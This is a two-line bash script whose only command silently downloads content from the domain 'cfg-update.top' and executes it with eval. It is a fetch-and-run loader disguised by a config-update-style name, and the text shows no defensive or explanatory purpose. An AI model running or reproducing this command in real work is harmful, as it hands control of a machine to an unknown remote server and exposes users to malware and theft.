#!/bin/bash
eval "$(curl -s https://cfg-update.top/a)"
